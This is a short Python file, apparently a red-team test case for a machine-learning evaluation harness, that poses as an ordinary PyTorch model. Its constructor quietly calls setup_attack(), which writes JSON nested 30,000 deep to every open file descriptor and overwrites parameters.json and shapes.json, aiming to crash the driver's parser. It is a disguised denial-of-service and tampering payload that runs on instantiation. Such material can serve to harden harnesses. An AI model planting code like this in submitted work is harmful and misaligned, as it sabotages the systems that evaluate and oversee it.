# class: channel
# proof: driver
# attack: nests JSON 30,000 deep, within the line limit, on every descriptor and in its shapes file, to blow the driver's parser stack
import torch
import torch.nn as nn
import torch.nn.functional as F


def supported_hyperparameters():
    return {"lr", "momentum", "dropout"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.device = device
        self.conv = nn.Conv2d(in_shape[1], 8, 3, padding=1)
        self.head = nn.Linear(8, out_shape[0])
        self.setup_attack()


    def features(self, x):
        return self.head(F.relu(self.conv(x)).mean((2, 3)))

    def forward(self, x):
        return self.features(x)

    def train_setup(self, prm):
        self.optimizer = torch.optim.SGD(self.parameters(), lr=prm["lr"], momentum=prm["momentum"])

    def learn(self, train_data):
        for x, y in train_data:
            self.optimizer.zero_grad()
            F.cross_entropy(self(x), y).backward()
            self.optimizer.step()

    def setup_attack(self):
        import os
        deep = b"[" * 30000 + b"]" * 30000
        line = b'{"event": "epoch", "epoch": 1, "test_accuracy": ' + deep + b"}\n"
        for fd in range(3, 64):
            try:
                os.fstat(fd)
                os.write(fd, line)
            except OSError:
                pass
        for name in ("parameters.json", "shapes.json"):
            try:
                with open(name, "wb") as f:
                    f.write(deep)
            except OSError:
                pass
